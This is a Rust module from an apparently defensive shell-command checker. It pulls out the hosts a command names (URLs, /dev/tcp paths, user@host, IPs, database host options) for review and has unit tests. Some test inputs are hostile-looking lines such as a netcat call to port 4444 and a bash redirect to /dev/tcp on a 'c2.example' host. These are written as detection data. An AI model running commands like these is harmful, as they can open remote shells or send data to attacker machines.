//! The machines that a command names, for whoever is asked about it. Nothing is decided by it.
//!
//! An address says it itself (`https://host/`, `/dev/tcp/host/port`), and so do `user@host`, `user@host:path` and an IP address. A bare name is taken for one
//! where the catalogue says that the program sends to machines or fetches from them, and it stands where that program has its operands.
//!
//! Limits: a name in a file that the program reads is not known, nor is one that a variable holds.

use std::net::{IpAddr, SocketAddr};

use backstop_shell::options::Options;
use backstop_shell::programs::Programs;

/// Options of clients of databases by which they are told where to go.
const HOST_OPTIONS: [(char, &str); 1] = [('h', "host")];

/// Returns the hosts that the words of a process name, its program first, as they are written.
pub(super) fn hosts_of<'w>(words: &[&'w str], programs: &Programs) -> Vec<&'w str> {
    let Some((program, args)) = words.split_first() else { return Vec::new() };
    let program = program.rsplit('/').next().unwrap_or(program);
    let mut hosts: Vec<&str> = words.iter().flat_map(|word| in_addresses(word)).collect();
    hosts.extend(args.iter().filter_map(|word| told(word)));
    let options = Options::parse(args, programs.takes(program));
    if programs.reaches_machines(program) {
        let one = if programs.copies(program) { remote } else { named };
        hosts.extend(options.operands.iter().filter_map(|word| one(word)));
    }
    if programs.is_client(program) {
        for (short, long) in HOST_OPTIONS {
            hosts.extend(options.values(Some(short), long).filter(|value| !value.starts_with('/')));
        }
    }
    hosts
}

/// Returns the hosts of addresses in a text.
pub(super) fn in_addresses(text: &str) -> impl Iterator<Item = &str> {
    let addresses = text.match_indices("://").map(|(at, mark)| at + mark.len());
    let devices = ["/dev/tcp/", "/dev/udp/"];
    let devices = devices
        .into_iter()
        .flat_map(move |device| text.match_indices(device).map(|(at, mark)| at + mark.len()));
    let hosts = addresses.chain(devices).filter_map(move |at| {
        let authority = text.get(at..)?.split(['/', '\\', '?', '#', ' ', '"', '\'', '\n']).next()?;
        authority.rsplit('@').next()
    });
    hosts.filter(|host| !host.is_empty())
}

/// Returns the host of a word that says one whatever the program is.
fn told(word: &str) -> Option<&str> {
    if word.contains("://") {
        return None;
    }
    if word.parse::<SocketAddr>().is_ok() || word.parse::<IpAddr>().is_ok_and(|ip| !ip.is_unspecified()) {
        return Some(word);
    }
    let (user, rest) = word.split_once('@')?;
    let host = rest.split([':', '/']).next()?;
    // A version is none (`name@1.2.3`).
    let is_host = host.bytes().any(|byte| byte.is_ascii_alphabetic()) || host.parse::<IpAddr>().is_ok();
    let is_told = host.contains('.') || rest.contains(':');
    (is_name(user) && is_name(host) && is_host && is_told).then_some(host)
}

/// Returns the host of an operand of a program that talks to other machines.
fn named(word: &str) -> Option<&str> {
    if word.contains('@') || word.contains("://") || word.starts_with(['.', '/', '~']) {
        return None;
    }
    let host = word.split([':', '/']).next()?;
    let last = host.rsplit('.').next()?;
    let is_dotted =
        host.contains('.') && last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic());
    (is_name(host) && is_dotted).then_some(host)
}

/// Returns the host of an operand of a program that copies files: what has none is a path here.
fn remote(word: &str) -> Option<&str> {
    let (host, _) = word.split_once(':').filter(|_| !word.contains("://"))?;
    (!word.contains('@') && is_name(host)).then_some(host)
}

fn is_name(text: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
    !text.is_empty() && text.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(words: &str) -> Vec<String> {
        let words: Vec<&str> = words.split(' ').collect();
        let programs = Programs::built_in();
        hosts_of(&words, &programs).into_iter().map(str::to_owned).collect()
    }

    #[test]
    fn machines_are_named_in_the_ways_of_their_programs() {
        for (words, expected) in [
            ("curl example.com", &["example.com"][..]),
            ("curl -o page.html example.com/x", &["example.com"]),
            ("curl https://a.example:8080/x", &["a.example:8080"]),
            ("ssh deploy@prod.example.com uptime", &["prod.example.com"]),
            ("nc 10.0.0.5 4444", &["10.0.0.5"]),
            ("git push git@github.example:org/repo.git", &["github.example"]),
            ("scp notes.txt me@backup:store/", &["backup"]),
            ("rsync -a notes.txt backup:store", &["backup"]),
            ("psql -h db.example -U me", &["db.example"]),
            ("bash -c x>/dev/tcp/c2.example/443", &["c2.example"]),
        ] {
            assert_eq!(hosts(words), expected, "{words}");
        }
    }

    #[test]
    fn what_names_no_machine_is_none() {
        for words in
            ["cat notes.txt", "make all", "git config user.name me", "psql -h /run/socket", "npm i a@1.2.3"]
        {
            assert_eq!(hosts(words), [""; 0], "{words}");
        }
    }
}
